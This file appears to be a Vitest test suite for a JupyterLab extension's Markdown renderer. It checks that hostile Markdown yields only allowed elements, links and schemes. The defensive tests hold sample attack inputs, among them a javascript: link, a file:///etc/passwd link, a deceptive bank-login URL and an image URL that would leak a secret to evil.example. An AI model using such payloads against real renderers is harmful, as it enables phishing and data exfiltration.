import React from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';

import { Markdown } from '../../../../labextension/src/components/markdown/Markdown';
import { HOSTILE } from './hostile';

const ELEMENTS = new Set(
  'div p h4 h5 h6 ul ol li blockquote pre code span button svg path g rect polygon circle em strong s a br hr table thead tbody tr th td'.split(
    ' '
  )
);
const ATTRIBUTES: Readonly<Record<string, ReadonlySet<string>>> = {
  '*': new Set(['class', 'dir', 'title', 'aria-label', 'aria-hidden', 'tabindex']),
  a: new Set(['href', 'target', 'rel', 'class']),
  button: new Set(['type', 'class', 'aria-label', 'title']),
  ol: new Set(['start'])
};

function draw(text: string): HTMLElement {
  const mark = (marker: number) => (marker <= 2 ? <button type="button">{marker}</button> : null);
  const html = renderToStaticMarkup(<Markdown text={text} renderMark={mark} />);
  return new DOMParser().parseFromString(html, 'text/html').body;
}

/** What a drawn text holds beyond the elements and attributes that are allowed. */
function breaches(body: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of body.querySelectorAll('*')) {
    const name = element.localName;
    if (element.closest('svg') !== null) {
      continue; // our own icons
    }
    if (!ELEMENTS.has(name)) {
      found.push(`<${name}>`);
    }
    for (const attribute of element.attributes) {
      const allowed = ATTRIBUTES[name]?.has(attribute.name) ?? false;
      if (!allowed && !ATTRIBUTES['*']?.has(attribute.name)) {
        found.push(`<${name} ${attribute.name}>`);
      }
    }
    if (name === 'a' && !/^(https?:\/\/|mailto:)/.test(element.getAttribute('href') ?? '')) {
      found.push(`<a href=${element.getAttribute('href')}>`);
    }
    if (name === 'a' && element.getAttribute('rel') !== 'noopener noreferrer nofollow') {
      found.push('<a> without rel');
    }
  }
  return found;
}

describe('a hostile text', () => {
  it.each(HOSTILE)('becomes nothing but allowed elements: %j', text => {
    expect(breaches(draw(text))).toEqual([]);
  });

  it.each(HOSTILE)('is as harmless at every point where the stream may pause: %j', text => {
    for (let length = 1; length < text.length; length++) {
      expect(breaches(draw(text.slice(0, length))), text.slice(0, length)).toEqual([]);
    }
  });

  it('is as harmless when it follows and precedes ordinary text', () => {
    const text = HOSTILE.map(one => `Some *text* before.\n\n${one}\n\nand after [1].`).join('\n\n');
    expect(breaches(draw(text))).toEqual([]);
  });

  it('may be nested without end', () => {
    expect(breaches(draw('> '.repeat(5000) + 'x'))).toEqual([]);
    expect(breaches(draw('['.repeat(5000) + 'x' + ']'.repeat(5000)))).toEqual([]);
    expect(breaches(draw('*a **a '.repeat(2000)))).toEqual([]);
  });
});

describe('HTML', () => {
  it('is shown as the text it is', () => {
    expect(draw('a <b onclick="x()">bold</b> word').textContent).toBe('a <b onclick="x()">bold</b> word');
    expect(draw('<div>\nblock\n</div>').textContent).toContain('<div>');
  });
});

describe('links', () => {
  it('show where they really lead', () => {
    const body = draw('[your bank](https://bank.example@evil.example/login)');
    expect(body.textContent).toBe('your bank (evil.example)');
  });

  it('show the encoded host of a name in look-alike letters', () => {
    expect(draw('[x](https://аpple.com/)').textContent).toContain('xn--');
  });

  it('stay text unless they lead to the web or a mailbox', () => {
    for (const href of [
      'javascript:alert(1)',
      'data:text/html,x',
      'file:///etc/passwd',
      '/lab/tree/x',
      '#x',
      '//e.example'
    ]) {
      expect(draw(`[text](${href})`).querySelector('a'), href).toBeNull();
    }
    expect(draw('<mailto:someone@example.org>').querySelector('a')?.getAttribute('href')).toBe(
      'mailto:someone@example.org'
    );
  });

  it('cannot be defined away from where they stand', () => {
    const body = draw('See [1] and [docs].\n\n[1]: https://evil.example\n[docs]: https://evil.example');
    expect(body.querySelector('a')).toBeNull();
    expect(body.querySelector('button')?.textContent).toBe('1');
  });
});

describe('images', () => {
  it('are never loaded: their description is shown', () => {
    const body = draw('![a chart](https://evil.example/?q=secret)');
    expect(body.querySelector('img')).toBeNull();
    expect(body.textContent).toBe('a chart');
  });
});

describe('marks', () => {
  it('become citations where there is a citation, and stay text where there is none', () => {
    const body = draw('One [1], two [2][1], none [9].');
    expect([...body.querySelectorAll('button')].map(button => button.textContent)).toEqual(['1', '2', '1']);
    expect(body.textContent).toContain('none [9].');
  });

  it('stay text in code and in links', () => {
    expect(draw('`a[1]`').querySelector('button')).toBeNull();
    expect(draw('[see [1]](https://example.org)').querySelector('a button')).toBeNull();
  });
});

describe('ordinary Markdown', () => {
  it('keeps its structure', () => {
    const body = draw('# Title\n\n1. one\n2. **two**\n\n| a | b |\n|--|--:|\n| 1 | 2 |\n\n> quote\n\n---');
    for (const selector of ['h4', 'ol > li strong', 'table td.jp-mod-right', 'blockquote p', 'hr']) {
      expect(body.querySelector(selector), selector).not.toBeNull();
    }
  });

  it('shows a code block that is still being written as code', () => {
    const body = draw('```python\nimport pandas as pd\n');
    expect(body.querySelector('pre code')?.textContent).toBe('import pandas as pd');
    expect(body.querySelector('pre')?.getAttribute('aria-label')).toBe('Code, python');
  });

  it('names characters that cannot be seen', () => {
    expect(draw('a\u202eb').textContent).toBe('aU+202Eb');
    expect(draw('`a\u200fb`').textContent).toBe('aU+200Fb');
  });
});
